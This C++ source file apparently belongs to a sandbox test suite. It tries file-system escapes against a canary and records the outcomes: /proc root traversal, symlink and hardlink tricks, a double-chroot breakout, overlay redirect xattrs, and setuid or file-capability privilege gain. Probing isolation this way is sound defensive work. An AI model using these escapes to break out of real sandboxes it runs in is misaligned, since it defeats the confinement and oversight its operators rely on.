// SPDX-License-Identifier: Apache-2.0
#include <fcntl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <unistd.h>

#include "programs/attack/attack.h"

// B08: ways through the file system.
namespace glovebox::attack {
namespace {

bool holds_secret(const Facts& facts, const std::string& path) {
  return !facts.canary_secret.empty() &&
         read_file(path, 4096).find(facts.canary_secret) != std::string::npos;
}

std::vector<std::string> ways_to_the_root() {
  std::vector<std::string> ways{"",
                                "/../../../../../../..",
                                "/proc/self/root",
                                "/proc/1/root",
                                "/proc/1/root/../..",
                                "/proc/1/cwd",
                                "/proc/1/cwd/../../../../../.."};
  for (const int pid : process_ids()) {
    ways.push_back("/proc/" + std::to_string(pid) + "/root");
    ways.push_back("/proc/" + std::to_string(pid) + "/cwd/../../../../..");
  }
  return ways;
}

Outcome read_canary(const Facts& facts) {
  if (facts.canary_path.empty()) return not_applicable("the host told of no canary");
  Tally tally;
  for (const auto& way : ways_to_the_root()) {
    errno = 0;
    const std::string path = way + facts.canary_path;
    if (holds_secret(facts, path))
      tally.succeed("the host's file is at " + path, false);
    else
      tally.refuse(errno != 0 ? errno : ENOENT);
  }
  return tally.outcome("");
}

Outcome read_canary_by_link(const Facts& facts) {
  if (facts.canary_path.empty()) return not_applicable("the host told of no canary");
  const std::string directory = work_directory();
  if (directory.empty()) return not_applicable("no place for a file");
  Tally tally;
  for (const auto& way : ways_to_the_root()) {
    const std::string link = directory + "/link";
    if (::symlink((way + facts.canary_path).c_str(), link.c_str()) != 0) continue;
    errno = 0;
    if (holds_secret(facts, link))
      tally.succeed("a symbolic link leads to the host's file through " + way, false);
    else
      tally.refuse(errno != 0 ? errno : ENOENT);
    ::unlink(link.c_str());
    if (::link((way + facts.canary_path).c_str(), link.c_str()) == 0)
      tally.succeed("a hard link to the host's file was made through " + way, false);
    else
      tally.refuse(errno);
    ::unlink(link.c_str());
  }
  ::rmdir(directory.c_str());
  return tally.outcome("");
}

// A name for the program of process 1, which is the host's file, would outlive its read-only mount.
Outcome hardlink_agent(const Facts&) {
  const std::string directory = work_directory();
  if (directory.empty()) return not_applicable("no place for a file");
  Tally tally;
  for (const char* source : {"/proc/1/exe", "/.glovebox/agent"}) {
    const std::string link = directory + "/agent";
    if (::linkat(AT_FDCWD, source, AT_FDCWD, link.c_str(), AT_SYMLINK_FOLLOW) != 0) {
      tally.refuse(errno);
      continue;
    }
    const int fd = ::open(link.c_str(), O_WRONLY | O_CLOEXEC);
    tally.succeed(
        std::string("a name for ") + source +
            (fd >= 0 || errno == ETXTBSY ? " that can be written" : " that cannot be written"),
        fd < 0 && errno != ETXTBSY);
    ::unlink(link.c_str());
  }
  ::rmdir(directory.c_str());
  return tally.outcome("");
}

// A second chroot while standing outside it: the oldest way out.
Outcome leave_chroot(const Facts& facts) {
  const std::string directory = work_directory();
  if (directory.empty()) return not_applicable("no place for a file");
  if (::chroot(directory.c_str()) != 0) {
    const int error = errno;
    ::rmdir(directory.c_str());
    return refused("chroot: " + error_name(error));
  }
  for (int depth = 0; depth < 64; ++depth) {
    if (::chdir("..") != 0) break;
  }
  if (::chroot(".") != 0) return refused("the second chroot: " + error_name(errno));
  ::rmdir(directory.c_str());  // the root is the old one again
  if (holds_secret(facts, facts.canary_path))
    return got_through("above the sandbox's root lies the host's file system");
  return harmless(
      "left the chroot, and above it is only the sandbox's root: the canary is not there");
}

// Attributes by which an overlay is told to look elsewhere in the layers below.
Outcome set_overlay_attributes(const Facts& facts) {
  const std::string directory = work_directory();
  if (directory.empty()) return not_applicable("no place for a file");
  Tally tally;
  for (const char* name : {"trusted.overlay.redirect", "trusted.overlay.opaque",
                           "trusted.overlay.metacopy", "trusted.overlay.origin"}) {
    const int rc = ::setxattr(directory.c_str(), name, "y", 1, 0);
    rc == 0 ? tally.succeed(std::string(name) + " can be set" +
                                (is_own_kernel(facts) ? " in the sandbox's own kernel" : ""),
                            is_own_kernel(facts))
            : tally.refuse(errno);
  }
  const bool is_set = ::setxattr(directory.c_str(), "user.overlay.redirect", "/", 1, 0) == 0;
  const bool is_obeyed = read_file("/proc/self/mountinfo").find("userxattr") != std::string::npos;
  if (is_set)
    tally.succeed(std::string("user.overlay.redirect can be set, and the mount ") +
                      (is_obeyed ? "obeys it" : "does not look at it (no userxattr)"),
                  !is_obeyed);
  else
    tally.refuse(errno);
  ::rmdir(directory.c_str());
  return tally.outcome("");
}

unsigned long long capabilities(const char* set) {
  const std::string status = read_file("/proc/self/status");
  const size_t at = status.find(set);
  return at == std::string::npos ? ~0ull : std::strtoull(status.c_str() + at + 7, nullptr, 16);
}

std::string copy_of_this_program(const std::string& directory) {
  const std::string program = read_file("/proc/self/exe", 8 << 20);
  const std::string copy = directory + "/copy";
  return write_file(copy, program, 0755) ? copy : std::string();
}

std::string g_program;

// What `whoami` (helpers.cc) says when user 4002 starts the file: uid, euid, capabilities.
int start_as_other_user(void*) {
  if (::geteuid() == 0 && (::setgid(4002) != 0 || ::setuid(4002) != 0)) return 250;
  const char* argv[] = {g_program.c_str(), "whoami", "judge", nullptr};
  const char* environment[] = {nullptr};
  ::execve(argv[0], const_cast<char**>(argv), const_cast<char**>(environment));
  return 251;
}

Outcome gain_by_program(const std::string& what, bool (*mark)(const std::string& path)) {
  const std::string directory = work_directory();
  if (directory.empty()) return not_applicable("no place for a file");
  ::chmod(directory.c_str(), 0755);
  g_program = copy_of_this_program(directory);
  const bool is_marked = !g_program.empty() && mark(g_program);
  const int error = errno;
  const int status = is_marked ? in_child(start_as_other_user, nullptr) : -1;
  ::unlink(g_program.c_str());
  ::rmdir(directory.c_str());
  if (!is_marked) return refused(what + " cannot be made: " + error_name(error));
  if (status == 0)
    return refused("a program with " + what + " was started by another user and gained nothing");
  if (status == 10) return got_through("a program with " + what + " gave another user more rights");
  return status == 250 || status == 251
             ? not_applicable("the program could not be started")
             : Outcome{Verdict::kUndecided, "exit " + std::to_string(status)};
}

Outcome setuid_program(const Facts&) {
  if (!is_root())
    return not_applicable("only root makes programs of root; see setuid_from_archive");
  return gain_by_program("the setuid bit",
                         [](const std::string& path) { return ::chmod(path.c_str(), 06755) == 0; });
}

Outcome file_capabilities(const Facts&) {
  return gain_by_program("file capabilities", [](const std::string& path) {
    // Those that can be had at all: with others the program would not start.
    const auto held = capabilities("CapBnd:");
    const auto low = static_cast<unsigned>(held), high = static_cast<unsigned>(held >> 32);
    const unsigned words[] = {0x02000001u, low, 0, high, 0};  // revision 2, effective
    return ::setxattr(path.c_str(), "security.capability", words, sizeof words, 0) == 0;
  });
}

// What root has inside: nothing that a kernel takes for power over itself.
Outcome hold_capabilities(const Facts& facts) {
  constexpr unsigned long long kAllowed = 1ull << 0 | 1 << 1 | 1 << 3 | 1 << 4 | 1 << 5 | 1 << 6 |
                                          1 << 7 | 1 << 8 | 1 << 10 | 1ull << 31;
  const std::string status = read_file("/proc/self/status");
  for (const char* set : {"CapPrm:", "CapEff:", "CapBnd:"}) {
    const size_t at = status.find(set);
    if (at == std::string::npos)
      return {Verdict::kUndecided, "/proc/self/status has no capabilities"};
    const unsigned long long held = std::strtoull(status.c_str() + at + 7, nullptr, 16);
    if ((held & ~kAllowed) == 0) continue;
    char text[64];
    ::snprintf(text, sizeof text, "%s %llx", set, held);
    return is_own_kernel(facts)
               ? harmless(std::string(text) + " over the sandbox's own kernel only")
               : got_through(text);
  }
  char text[64];
  ::snprintf(text, sizeof text, "effective: %llx, and no more in the bounding set",
             capabilities("CapEff:"));
  return refused(text);
}

}  // namespace

std::vector<Attempt> file_attempts() {
  return {{"B08", "read_canary", read_canary},
          {"B08", "read_canary_by_link", read_canary_by_link},
          {"B08", "hardlink_agent", hardlink_agent},
          {"B08", "leave_chroot", leave_chroot},
          {"B08", "overlay_attributes", set_overlay_attributes},
          {"B08", "setuid_program", setuid_program},
          {"B08", "file_capabilities", file_capabilities},
          {"B08", "hold_capabilities", hold_capabilities}};
}

}  // namespace glovebox::attack
